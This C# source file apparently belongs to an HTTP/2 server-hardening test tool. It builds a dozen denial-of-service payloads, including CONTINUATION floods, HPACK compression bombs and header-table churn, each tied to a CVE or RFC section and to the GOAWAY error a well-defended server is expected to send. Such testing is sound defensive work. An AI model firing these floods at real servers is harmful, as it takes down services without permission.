using System;
using System.Collections.Generic;
using System.Linq;
using Http2Nano.Attacks.Wire;

namespace Http2Nano.Attacks.Scripts;

/// <summary>Field sections that are large, many, or never end.</summary>
internal static class FieldBombs
{
    private const string Calm = "GOAWAY ENHANCE_YOUR_CALM";
    private static readonly byte[] s_open = Frame.Of(Frame.Headers, Frame.EndStream, 1, Frame.FieldBlock("GET", "/"));

    // 3,900 octets in the dynamic table, referred to by one octet each.
    private static readonly byte[] s_bomb = [.. Frame.FieldBlock("GET", "/"), .. Frame.Indexed("x", new string('x', 3900)), .. Enumerable.Repeat((byte)0xBE, 12000)];

    public static IEnumerable<Attack> All =>
    [
        new("CONTINUATION flood, empty", "VU#421644", Script.Flood([.. Frame.Greeting, .. s_open], Frame.Of(Frame.Continuation, 0, 1))) { End = Calm },
        new("CONTINUATION flood, one field each", "VU#421644", Script.Flood([.. Frame.Greeting, .. s_open], Frame.Of(Frame.Continuation, 0, 1, 0x90))) { End = Calm },
        new("CONTINUATION flood, full frames", "VU#421644", Script.Flood([.. Frame.Greeting, .. s_open],
            Frame.Of(Frame.Continuation, 0, 1, [.. Enumerable.Repeat((byte)0x90, 16384)]))) { End = Calm },
        new("HPACK bomb", "CVE-2016-6581", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream, s_bomb))) { End = Calm },
        new("many fields by reference", "CVE-2026-49975", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream, [.. Frame.FieldBlock("GET", "/"), .. Enumerable.Repeat((byte)0x90, 16000)]))) { End = Calm },
        new("many cookie crumbs", "CVE-2026-47774", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream, [.. Frame.FieldBlock("GET", "/"), .. Enumerable.Repeat((byte)0xA0, 16000)]))) { End = Calm },
        new("fields without name and value", "CVE-2019-9516", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream,
                [.. Frame.FieldBlock("GET", "/"), .. Enumerable.Repeat<byte[]>([0x40, 0, 0], 4000).SelectMany(octets => octets)]))) { End = Calm },
        new("table turned over and over", "RFC 7541 4.4", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream,
                [.. Frame.FieldBlock("GET", "/"), .. Enumerable.Range(0, 1500).SelectMany(i => Frame.Indexed($"x{i % 1000:000}", "yyy"))]))) { End = Calm },
        new("table size updates", "RFC 7541 4.2", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream, [.. Enumerable.Repeat((byte)0x20, 10000), .. Frame.FieldBlock("GET", "/")]))) { End = "GOAWAY COMPRESSION_ERROR" },
        new("integer without end", "RFC 7541 7.4", Script.Flood([.. Frame.Greeting, .. s_open], Frame.Of(Frame.Continuation, 0, 1, [0xFF, .. Enumerable.Repeat((byte)0x80, 100)]))) { End = "GOAWAY COMPRESSION_ERROR" },
        new("value of two gigabytes", "RFC 7541 7.4", Script.Flood([.. Frame.Greeting, .. s_open,
            .. Frame.Of(Frame.Continuation, 0, 1, 0x00, 0x01, (byte)'x', 0x7F, 0x80, 0xFF, 0xFF, 0xFF, 0x07)], Frame.Of(Frame.Continuation, 0, 1, new byte[16384]))) { End = Calm },
        new("fields larger than any request's", "CVE-2016-6581", Script.FloodStreams(Frame.Greeting, stream =>
            Frame.Of(Frame.Headers, Frame.EndStream | Frame.EndHeaders, stream,
                [.. Frame.FieldBlock("GET", "/"), .. Enumerable.Range(0, 90).SelectMany(i => Frame.Indexed("x", new string('x', 120)))]))) { End = Calm },
    ];
}
